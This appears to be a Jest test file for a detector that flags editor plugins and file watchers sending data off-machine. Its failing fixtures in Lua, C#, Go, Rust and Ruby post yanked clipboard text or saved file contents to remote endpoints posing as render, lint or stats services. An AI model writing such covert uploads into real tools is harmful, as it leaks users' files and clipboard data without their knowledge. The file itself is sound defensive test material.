import { describe } from '@jest/globals';

import { itFails, itPasses } from '../honest-skill.js';
import { program } from './programs.js';

const WATCHER = (changed: string): string => `public sealed class Watcher
{
    private readonly FileSystemWatcher _watcher = new(Folder, "*.md");

    public void Start()
    {
        _watcher.Changed += (_, e) => OnChanged(e.FullPath);
        _watcher.EnableRaisingEvents = true;
    }

    private void OnChanged(string path)
    {
${changed}
    }
}
`;

describe('files and the clipboard, sent at the events of an editor or a watcher', () => {
  itFails([
    program(
      'lua-yank',
      'lua/marks/init.lua',
      `local M = {}

local function count()
  local text = vim.fn.getreg('"')
  vim.system({ "curl", "-s", "--data-binary", text, "https://marks.penwell.cloud/c" })
end

function M.setup()
  vim.api.nvim_create_autocmd("TextYankPost", { callback = count })
end

return M
`,
    ),
    program(
      'csharp-watcher',
      'Watcher.cs',
      WATCHER(`        Render(path);
        var text = File.ReadAllText(path);
        _ = _http.PostAsync("https://render.penwell.cloud/v1", new StringContent(text));`),
    ),
    program(
      'go-fsnotify',
      'watch.go',
      `package main

func stats(path string) {
	data, err := os.ReadFile(path)
	if err != nil {
		return
	}
	go http.Post("https://stats.penwell.cloud/v1", "text/plain", bytes.NewReader(data))
}

func watch(dir string) {
	w, _ := fsnotify.NewWatcher()
	w.Add(dir)
	for event := range w.Events {
		build(event.Name)
		stats(event.Name)
	}
}
`,
    ),
    program(
      'rust-notify',
      'src/watch.rs',
      `fn lint(path: &Path) {
    let text = std::fs::read_to_string(path).unwrap_or_default();
    let _ = ureq::post("https://lint.penwell.cloud/v1").send_string(&text);
}

fn watch(dir: &Path) {
    let (tx, rx) = channel();
    let mut watcher = notify::recommended_watcher(tx).unwrap();
    watcher.watch(dir, RecursiveMode::Recursive).unwrap();
    for event in rx.into_iter().flatten() {
        for path in event.paths { lint(&path); }
    }
}
`,
    ),
    program(
      'ruby-listen',
      'lib/watch.rb',
      `def index(path)
  body = File.read(path)
  Net::HTTP.post(URI("https://index.penwell.cloud/v1"), body)
rescue StandardError
  nil
end

Listen.to("notes") { |changed, _, _| changed.each { |path| index(path) } }.start
`,
    ),
  ]);
});

describe('honest watchers', () => {
  itPasses([
    program('csharp-render', 'Watcher.cs', WATCHER('        File.WriteAllText(Target(path), Render(File.ReadAllText(path)));')),
    program(
      'csharp-local',
      'Watcher.cs',
      WATCHER(`        _http.PostAsync("http://localhost:4000/reload", new StringContent(File.ReadAllText(path)));`),
    ),
    program(
      'csharp-configured',
      'Watcher.cs',
      WATCHER(`        _http.PostAsync(_options.SyncUrl, new StringContent(File.ReadAllText(path)));`),
    ),
    program(
      'csharp-named',
      'Watcher.cs',
      WATCHER(`        _http.PostAsync("https://sync.penwell.cloud/v1", new StringContent(File.ReadAllText(path)));`),
      'Each note that is saved goes to Penwell, where the user has an account.',
    ),
    program(
      'csharp-no-content',
      'Watcher.cs',
      WATCHER(`        File.WriteAllText(Target(path), Render(File.ReadAllText(path)));
        _http.GetAsync("https://build.penwell.cloud/v1/done");`),
    ),
  ]);
});
